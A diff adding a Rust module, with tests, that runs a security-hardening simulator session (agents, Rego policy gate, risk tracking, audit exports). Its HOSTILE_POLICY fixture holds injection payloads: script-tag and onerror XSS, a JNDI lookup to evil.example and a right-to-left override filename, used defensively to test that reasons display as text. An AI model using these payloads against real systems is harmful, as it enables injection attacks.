@@ -1,0 +1,499 @@
+//! The hardening page's run of the simulator: the scenario, who proposes, the policy in force
+//! and the record of the current episode (risk over time, the crate's metrics); its exports
+//! (the trajectory, and the seed's six audit tables as JSONL, through the crate's code).
+//! Plain Rust, tested natively; the components only read it.
+
+use super::settings::{Decider, HardenSettings};
+use serde_json::Value;
+use ztgym::core::eval::trajectory_line;
+use ztgym::core::{Agent, Environment, Step};
+use ztgym::harden::agents::{builtin, Reviewer, REVIEWER_MAX_BREAKAGE};
+use ztgym::harden::env::{Candidate, Info, Observation};
+use ztgym::harden::metrics::{audit_records, Collector, Evaluation};
+use ztgym::harden::rego::Policy;
+use ztgym::harden::{Action, HardenEnv, Options, Scenario};
+
+/// A policy whose denial reasons are hostile text (`show=hostile`): markup, a JNDI lookup and a
+/// right-to-left override, to check every surface shows a reason as text.
+pub const HOSTILE_POLICY: &str = r#"package hostile
+
+default allow := false
+
+deny contains "<script>alert('reason')</script> ${jndi:ldap://evil.example/a}" if true
+
+deny contains "<img src=x onerror=alert(1)> \u202Egpj.exe" if true
+"#;
+
+/// One cycle played: the observation proposed on, the proposal and its result.
+#[derive(Clone, Debug)]
+pub struct Record {
+    pub observation: Observation,
+    pub action: Action,
+    pub step: Step<Observation, Info>,
+}
+
+/// Totals over the episodes played since the settings last changed.
+#[derive(Clone, Copy, Debug, Default, PartialEq)]
+pub struct RunStats {
+    pub episodes: u64,
+    pub cycles: u64,
+}
+
+/// One hardening run.
+pub struct Session {
+    settings: HardenSettings,
+    env: HardenEnv,
+    agent: Option<Box<dyn Agent<HardenEnv>>>,
+    observation: Observation,
+    info: Info,
+    log: Vec<Record>,
+    /// The risk score at the start and after each cycle of the episode.
+    risks: Vec<f64>,
+    metrics: Collector,
+    stats: RunStats,
+}
+
+impl Session {
+    /// Starts a run. Fails for an agent the crate does not have, or a scenario it cannot load.
+    pub fn new(settings: HardenSettings) -> Result<Session, String> {
+        let inner = match settings.agent {
+            Decider::Human => None,
+            Decider::Agent(name) => Some(builtin(name)?),
+        };
+        let agent: Option<Box<dyn Agent<HardenEnv>>> = match inner {
+            Some(a) if settings.recommend => {
+                Some(Box::new(Reviewer::new(a, REVIEWER_MAX_BREAKAGE)))
+            }
+            other => other,
+        };
+        let scenario = Scenario::load(settings.scenario).map_err(|e| e.to_string())?;
+        let mut env = HardenEnv::new(scenario).map_err(|e| e.to_string())?;
+        let (observation, info) = env.reset(settings.seed, options(&settings));
+        let mut session = Session {
+            settings,
+            env,
+            agent,
+            observation,
+            info,
+            log: Vec::new(),
+            risks: Vec::new(),
+            metrics: Collector::default(),
+            stats: RunStats::default(),
+        };
+        session.risks.push(session.observation.risk_score);
+        if let Some(a) = session.agent.as_mut() {
+            a.reset(session.settings.seed);
+        }
+        if session.settings.hostile {
+            session.set_policy(HOSTILE_POLICY)?;
+        }
+        Ok(session)
+    }
+
+    pub fn settings(&self) -> &HardenSettings {
+        &self.settings
+    }
+
+    /// Starts the episode again with the same seed (the policy in force stays).
+    pub fn restart(&mut self) {
+        let (observation, info) = self.env.reset(self.settings.seed, options(&self.settings));
+        self.observation = observation;
+        self.info = info;
+        self.log.clear();
+        self.risks = vec![self.observation.risk_score];
+        self.metrics = Collector::default();
+        if let Some(a) = self.agent.as_mut() {
+            a.reset(self.settings.seed);
+        }
+    }
+
+    /// Starts a new episode with `seed`.
+    pub fn set_seed(&mut self, seed: u64) {
+        self.settings.seed = seed;
+        self.restart();
+    }
+
+    /// Whether an agent proposes (not a person).
+    pub fn automated(&self) -> bool {
+        self.agent.is_some()
+    }
+
+    pub fn done(&self) -> bool {
+        self.log.last().is_some_and(|r| r.step.done())
+    }
+
+    /// The policy in force: its name and text.
+    pub fn policy(&self) -> &Policy {
+        self.env.policy()
+    }
+
+    /// Puts a policy in force from the next decision on; the candidates on screen (the
+    /// current proposals, on which no step was taken yet) are judged again by it. A policy
+    /// that does not load, or has no `allow`, changes nothing and the error is returned.
+    pub fn set_policy(&mut self, text: &str) -> Result<(), String> {
+        let name = self.env.policy().name().to_string();
+        let policy = Policy::load(&name, text).map_err(|e| e.to_string())?;
+        self.env.set_policy(policy).map_err(|e| e.to_string())?;
+        let cycle = self.info.cycle.take();
+        let (observation, mut info) = self.env.look();
+        info.cycle = cycle;
+        self.observation = observation;
+        self.info = info;
+        Ok(())
+    }
+
+    /// The input the gate sees for candidate `index` now.
+    pub fn gate_input(&self, index: usize) -> Option<Value> {
+        let c = self.observation.candidates.get(index)?;
+        Some(self.env.gate_input(&c.action, self.observation.risk_score))
+    }
+
+    fn check_person(&self, index: usize) -> Result<Action, String> {
+        if self.automated() {
+            return Err(
+                "An agent proposes in this run: choose Agent: Human (you) to propose yourself."
+                    .into(),
+            );
+        }
+        if self.done() {
+            return Err("The episode is over: press Reset or New seed for another.".into());
+        }
+        self.observation
+            .candidates
+            .get(index)
+            .map(|c| c.action.clone())
+            .ok_or_else(|| format!("proposal {index}: there is no such candidate"))
+    }
+
+    /// A person proposes candidate `index` (recommend-only mode: use [`Session::answer`]).
+    pub fn propose(&mut self, index: usize) -> Result<(), String> {
+        if self.settings.recommend {
+            return Err("Recommend-only mode: Accept or Reject a recommendation.".into());
+        }
+        let action = self.check_person(index)?;
+        self.play(action)
+    }
+
+    /// Recommend-only mode: a person accepts or rejects recommendation `index`.
+    pub fn answer(&mut self, index: usize, accepted: bool) -> Result<(), String> {
+        if !self.settings.recommend {
+            return Err("Accept and Reject are for recommend-only mode: Propose instead.".into());
+        }
+        let mut action = self.check_person(index)?;
+        action.accepted = Some(accepted);
+        self.play(action)
+    }
+
+    fn play(&mut self, action: Action) -> Result<(), String> {
+        let step = self.env.step(&action).map_err(|e| e.to_string())?;
+        self.record(action, step);
+        Ok(())
+    }
+
+    /// One step of the agent; false when there is none or the episode is over.
+    pub fn agent_step(&mut self) -> bool {
+        if self.done() {
+            return false;
+        }
+        let Some(agent) = self.agent.as_mut() else {
+            return false;
+        };
+        let action = agent.act(&self.observation, &self.info);
+        match self.env.step(&action) {
+            Ok(step) => {
+                self.record(action, step);
+                true
+            }
+            Err(_) => false,
+        }
+    }
+
+    /// Runs up to `max_steps` agent steps; with `keep_going`, a finished episode is followed by
+    /// the next seed's. Returns the steps taken.
+    pub fn run(&mut self, max_steps: usize, keep_going: bool) -> usize {
+        let mut taken = 0;
+        while taken < max_steps {
+            if self.done() {
+                if !keep_going {
+                    break;
+                }
+                self.set_seed(self.settings.seed.wrapping_add(1));
+            }
+            if !self.agent_step() {
+                break;
+            }
+            taken += 1;
+        }
+        taken
+    }
+
+    fn record(&mut self, action: Action, step: Step<Observation, Info>) {
+        self.stats.cycles += 1;
+        if step.done() {
+            self.stats.episodes += 1;
+        }
+        if let Some(c) = &step.info.cycle {
+            self.metrics.add(c, step.cost);
+        }
+        self.risks.push(step.observation.risk_score);
+        let observation = std::mem::replace(&mut self.observation, step.observation.clone());
+        self.info = step.info.clone();
+        self.log.push(Record {
+            observation,
+            action,
+            step,
+        });
+    }
+
+    /// The candidates on screen now (the next cycle's proposals).
+    pub fn observation(&self) -> &Observation {
+        &self.observation
+    }
+
+    pub fn candidates(&self) -> &[Candidate] {
+        &self.observation.candidates
+    }
+
+    pub fn info(&self) -> &Info {
+        &self.info
+    }
+
+    pub fn log(&self) -> &[Record] {
+        &self.log
+    }
+
+    pub fn stats(&self) -> RunStats {
+        self.stats
+    }
+
+    pub fn scenario(&self) -> &Scenario {
+        self.env.scenario()
+    }
+
+    pub fn twin(&self) -> &ztgym::harden::twin::Twin {
+        self.env.twin()
+    }
+
+    /// The risk score at the start of the episode and after each cycle.
+    pub fn risks(&self) -> &[f64] {
+        &self.risks
+    }
+
+    /// Seed 001's evaluation over the episode's cycles so far.
+    pub fn evaluation(&self) -> Evaluation {
+        self.metrics.finish()
+    }
+
+    pub fn episode_return(&self) -> f64 {
+        self.env.totals().episode_return
+    }
+
+    pub fn episode_cost(&self) -> f64 {
+        self.env.totals().episode_cost
+    }
+
+    /// The episode as `ztgym run` writes a trajectory: a JSON line per cycle.
+    pub fn trajectory_jsonl(&self) -> String {
+        let mut out = String::new();
+        for (t, r) in self.log.iter().enumerate() {
+            out.push_str(&trajectory_line(
+                t as u32,
+                &r.observation,
+                &r.action,
+                &r.step,
+            ));
+            out.push('\n');
+        }
+        out
+    }
+
+    /// The episode as the seed's six audit tables: a JSON line per row, `decision_id` from 1.
+    pub fn audit_jsonl(&self) -> String {
+        let mut out = String::new();
+        let cycles = self.log.iter().filter_map(|r| r.step.info.cycle.as_deref());
+        for (k, c) in cycles.enumerate() {
+            for row in audit_records(k as u64 + 1, c) {
+                out.push_str(&row.to_string());
+                out.push('\n');
+            }
+        }
+        out
+    }
+}
+
+fn options(s: &HardenSettings) -> Options {
+    Options {
+        environment: s.stage,
+        recommend_only: s.recommend,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use ztgym::harden::Stage;
+
+    fn settings(agent: Decider) -> HardenSettings {
+        HardenSettings {
+            seed: 5,
+            agent,
+            ..HardenSettings::default()
+        }
+    }
+
+    #[test]
+    fn a_person_proposes_and_the_cycle_is_recorded() {
+        let mut s = Session::new(settings(Decider::Human)).unwrap();
+        assert!(!s.automated() && !s.agent_step());
+        let risk = s.observation().risk_score;
+        // The candidate that cuts the most and may run.
+        let k = s
+            .candidates()
+            .iter()
+            .position(|c| c.allowed && c.forecast.pass && c.forecast.risk_delta < 0.0)
+            .unwrap();
+        s.propose(k).unwrap();
+        let c = s.log()[0].step.info.cycle.as_ref().unwrap();
+        assert!(c.decision.allowed && c.execution.executed, "{c:?}");
+        assert!(c.after_risk < risk);
+        assert_eq!(s.risks().len(), 2);
+        assert_eq!(s.evaluation().cycles, 1);
+        assert_eq!(s.evaluation().gate_pass_rate, 1.0);
+        assert!(s.propose(10_000).unwrap_err().contains("no such candidate"));
+        assert!(s.answer(0, true).unwrap_err().contains("recommend-only"));
+        assert_eq!(s.log().len(), 1, "refusals change nothing");
+    }
+
+    #[test]
+    fn agents_play_as_the_core_plays_them() {
+        for (agent, recommend) in [("greedy", false), ("bandit", false), ("random", true)] {
+            let st = HardenSettings {
+                scenario: "uc02-pod-security",
+                recommend,
+                stage: Stage::Stage,
+                ..settings(Decider::Agent(agent))
+            };
+            let mut a = Session::new(st.clone()).unwrap();
+            let n = a.run(100_000, false);
+            assert!(a.done() && n == a.log().len() && n > 0, "{agent}");
+            let expected =
+                ztgym::harden::agents::builtin_trajectory(st.scenario, agent, 5, &options(&st))
+                    .unwrap();
+            assert_eq!(a.trajectory_jsonl(), expected, "{agent}");
+            assert_eq!(a.risks().len(), n + 1);
+            assert_eq!(a.evaluation().cycles, n as u64);
+        }
+    }
+
+    #[test]
+    fn recommend_only_runs_only_what_is_accepted() {
+        let st = HardenSettings {
+            recommend: true,
+            ..settings(Decider::Human)
+        };
+        let mut s = Session::new(st).unwrap();
+        let top = &s.candidates()[0];
+        assert!(
+            top.rollback.is_some(),
+            "recommendations carry a rollback hint"
+        );
+        assert!(
+            top.allowed && top.forecast.pass,
+            "the ranking puts what may run first"
+        );
+        assert!(s.propose(0).unwrap_err().contains("Accept or Reject"));
+        s.answer(0, false).unwrap();
+        let c = s.log()[0].step.info.cycle.as_ref().unwrap();
+        assert!(!c.execution.executed && c.proposal.accepted == Some(false));
+        s.answer(0, true).unwrap();
+        let c = s.log()[1].step.info.cycle.as_ref().unwrap();
+        if c.decision.allowed && c.simulation.pass {
+            assert!(c.execution.executed);
+        }
+    }
+
+    #[test]
+    fn a_new_policy_rejudges_the_candidates_and_a_bad_one_changes_nothing() {
+        let mut s = Session::new(HardenSettings {
+            stage: Stage::Prod,
+            ..settings(Decider::Human)
+        })
+        .unwrap();
+        let original = s.policy().text().to_string();
+        let allowed = s.candidates().iter().filter(|c| c.allowed).count();
+        assert!(allowed > 0);
+        let err = s.set_policy("package p\n\nallow if {").unwrap_err();
+        assert!(err.contains(':'), "{err}");
+        assert_eq!(s.policy().text(), original);
+        assert_eq!(s.candidates().iter().filter(|c| c.allowed).count(), allowed);
+
+        s.set_policy("package p\n\ndefault allow := false\n\ndeny contains \"closed for the audit\" if true\n")
+            .unwrap();
+        assert!(s.candidates().iter().all(|c| !c.allowed));
+        assert!(s.candidates()[0]
+            .reasons
+            .contains(&"closed for the audit".to_string()));
+        let input = s.gate_input(0).unwrap();
+        assert_eq!(input["context"]["environment"], "prod");
+        s.propose(0).unwrap();
+        let c = s.log()[0].step.info.cycle.as_ref().unwrap();
+        assert!(!c.decision.allowed && !c.execution.executed);
+        s.restart();
+        assert!(
+            s.policy().text().contains("closed for the audit"),
+            "a reset keeps the policy"
+        );
+    }
+
+    #[test]
+    fn the_hostile_policy_denies_with_its_text() {
+        let mut s = Session::new(HardenSettings {
+            hostile: true,
+            ..settings(Decider::Human)
+        })
+        .unwrap();
+        let reasons = &s.candidates()[0].reasons;
+        assert!(
+            reasons.iter().any(|r| r.contains("<script>")),
+            "{reasons:?}"
+        );
+        assert!(
+            reasons.iter().any(|r| r.contains('\u{202E}')),
+            "{reasons:?}"
+        );
+        s.propose(0).unwrap();
+        assert!(s.audit_jsonl().contains("<script>"));
+    }
+
+    #[test]
+    fn the_audit_has_the_six_tables_for_every_cycle() {
+        let mut s = Session::new(settings(Decider::Agent("greedy"))).unwrap();
+        s.run(4, false);
+        let rows: Vec<Value> = s
+            .audit_jsonl()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        for table in [
+            "system_state",
+            "decisions",
+            "simulations",
+            "executions",
+            "rewards",
+        ] {
+            assert_eq!(
+                rows.iter().filter(|r| r["table"] == table).count(),
+                4,
+                "{table}"
+            );
+        }
+        assert!(rows.iter().any(|r| r["table"] == "telemetry_events"));
+        let ids: Vec<u64> = rows
+            .iter()
+            .filter(|r| r["table"] == "decisions")
+            .map(|r| r["id"].as_u64().unwrap())
+            .collect();
+        assert_eq!(ids, [1, 2, 3, 4]);
+        assert_eq!(s.trajectory_jsonl().lines().count(), 4);
+    }
+}
